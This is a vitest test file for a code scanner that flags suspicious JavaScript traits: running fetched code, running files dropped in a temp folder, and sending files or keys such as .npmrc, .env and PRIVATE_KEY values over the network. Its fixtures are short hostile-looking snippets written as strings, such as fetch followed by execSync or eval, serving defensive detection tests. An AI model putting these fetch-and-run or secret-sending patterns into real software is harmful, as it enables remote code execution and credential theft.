// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
import { describe, expect, it } from 'vitest';
import type { TraitKind } from '../../../src/model/code-signs.ts';
import { kindsIn, lookAt, ofKind, type Rows } from './given.ts';
import { testTable } from './table.ts';

const fetched = "const r = await fetch('https://a.example');";
const temporary = "const p = path.join(os.tmpdir(), 'x'); require('https').get(u, (r) =>";

const rows: Partial<Record<TraitKind, Rows>> = {
  'runs-fetched': {
    hits: [
      ['a text as a command', `${fetched} const t = await r.text(); if (t) execSync(t);`],
      ['a field of an answer', `${fetched} const { run } = await r.json(); execSync(run, {})`],
      ['a field by another name', `${fetched} const { run: task } = await r.json(); cp.exec(task)`],
      ['by a chain', 'fetch(u).then((r) => r.text()).then((t) => eval(t))'],
      [
        'piece by piece',
        "https.get(u, (r) => { r.on('data', (d) => (b += d)); r.on('end', () => child_process.exec(b)) })",
      ],
      ['by an interpreter', "fetch(u).then((r) => r.text()).then((code) => spawn('python3', ['-c', code]))"],
      ['of a client', "const r = await axios.get(u); new Function('require', r.data.model)(require)"],
    ],
    misses: [
      ['what is printed', `${fetched} const t = await r.text(); console.log(t); execSync('git log')`],
      ['what a child says', "https.get(u); git.stdout.on('data', (d) => (out += d)); exec(out)"],
      ['another name', `${fetched} const t = await r.text(); execSync(text)`],
      ['a pattern', `${fetched} const t = await r.text(); pattern.exec(t)`],
    ],
  },
  'runs-dropped': {
    hits: [
      ['what is fetched', `${temporary} r.pipe(fs.createWriteStream(p)).on('close', () => spawn(p)))`],
      ['a module', `${temporary} r.on('end', () => { fs.writeFileSync(p, b); require(p) }))`],
      ['by an interpreter', `${temporary} fs.writeFileSync(p, r)); execFile('python3', [p])`],
      ['by a shell', `${temporary} fs.writeFileSync(p, r)); exec(\`node \${p}\`)`],
      [
        'what is decoded',
        "const out = path.join(os.tmpdir(), 'f'); fs.writeFileSync(out, Buffer.from(s, 'base64')); spawn(out, [])",
      ],
    ],
    misses: [
      [
        'what it was handed',
        "const p = path.join(os.tmpdir(), 'x'); fs.writeFileSync(p, lines); spawn('sh', [p])",
      ],
      [
        'in a folder of its own',
        "const p = path.join(__dirname, 'x'); require('https'); fs.writeFileSync(p, b); spawn(p)",
      ],
      ['what is not started', `${temporary} r.pipe(fs.createWriteStream(p))); spawn('git', [])`],
    ],
  },
  'sends-file': {
    hits: [
      ['settings of npm', "const f = home + '/.npmrc'; https.request(o).end(fs.readFileSync(f))", '/.npmrc'],
      [
        'as a body',
        "fetch(u, { body: JSON.stringify({ a: readFileSync('.env', 'utf8') }) }); fs.readFileSync('.env')",
        '.env',
      ],
    ],
    misses: [
      ['another file', "https.request(o).end(fs.readFileSync('report.xml'))"],
      ['settings that are read', "const own = parse(fs.readFileSync('.env')); https.request(o).end(body)"],
      ['a server of files', "response.end(fs.readFileSync(join(root, '.env'))); serve()"],
    ],
  },
  'sends-keys': {
    hits: [
      [
        'out of settings',
        "const m = /PRIVATE_KEY=(.+)/.exec(fs.readFileSync('.env', 'utf8')); https.get(u + m[1])",
        'from files of settings',
      ],
    ],
    misses: [
      ['a linter', "if (/PRIVATE_KEY=/.test(fs.readFileSync('.env', 'utf8'))) warn()"],
      ['other words', "/PORT=(.+)/.exec(fs.readFileSync('.env', 'utf8')); https.get(u)"],
    ],
  },
};

testTable(rows);

describe('behind other names', () => {
  const other = (one: number) => `const a${one} = await (await fetch(u)).text();`;
  const others = (count: number) => Array.from({ length: count }, (_, one) => other(one)).join('\n');

  it('what is run is seen, and where there are more than are followed that is told', () => {
    const seen = lookAt(`${others(100)} const t = await (await fetch(u)).text(); execSync(t);`);
    expect(seen.traits.map(({ kind }) => kind)).toContain('runs-fetched');
    expect(seen.more).toBeUndefined();
    expect(lookAt(`${others(1_200)} eval(b);`).more).toBe(true);
  });
});

describe('in a file that is too large to be looked at as a whole', () => {
  const pad = (characters: number) => 'function f(a, b) { return a.slice(b); }\n'.repeat(characters / 40);
  const padded = (code: string) => `${pad(70_000)}${code}\n${pad(70_000)}`;
  const all = Object.entries(rows) as [TraitKind, Rows][];

  it.each(all.flatMap(([kind, { hits }]) => hits.map((hit) => ({ kind, hit }))))(
    'the same is seen: $kind, $hit.0',
    ({ kind, hit: [, code, what] }) => {
      const [first] = ofKind(padded(code), kind);
      expect(first?.line).toBe(1_751);
      if (what !== undefined) expect(first?.what).toBe(what);
    },
  );

  it.each(all.flatMap(([kind, { misses }]) => misses.map(([title, code]) => ({ kind, title, code }))))(
    'the same is not: $kind, $title',
    ({ kind, code }) => {
      expect(kindsIn(padded(code))).not.toContain(kind);
    },
  );

  const [source, sink] = ['const t = await (await fetch(u)).text();', 'execSync(t);'];
  const apart = (characters: number) => `${source}${' '.repeat(characters)}${sink}`;

  it('a name is followed for some thousand characters', () => {
    expect(kindsIn(padded(apart(2_900)))).toContain('runs-fetched');
    expect(kindsIn(padded(apart(3_100)))).not.toContain('runs-fetched');
    expect(kindsIn(apart(3_100))).toContain('runs-fetched');
  });

  it('a name is followed from one place to the next', () => {
    const between = `${' '.repeat(2_500)} r.text(); ${' '.repeat(2_500)}`;
    expect(kindsIn(padded(`${source}${between}${sink}`))).toContain('runs-fetched');
  });

  it('one that stands behind many others is seen too', () => {
    const others = `const a = await (await fetch(u)).text();${' '.repeat(8_000)}`.repeat(100);
    expect(kindsIn(`${others}${source}${sink}`)).toContain('runs-fetched');
    expect(lookAt(others).more).toBeUndefined();
  });

  it('that there are more places than are looked at is told', () => {
    expect(lookAt('shortCircuit '.repeat(10_000)).more).toBeUndefined();
    expect(lookAt('shortCircuit '.repeat(300_000)).more).toBe(true);
  });

  it('that there are more than are followed is told', () => {
    const names = Array.from({ length: 4_000 }, (_, one) => `const a${one} = await (await fetch(u)).text();`);
    const crowded = names.map((one) => `${one}${' '.repeat(700)}`).join('');
    expect(lookAt(`${crowded} eval(b)`).more).toBe(true);
  });
});
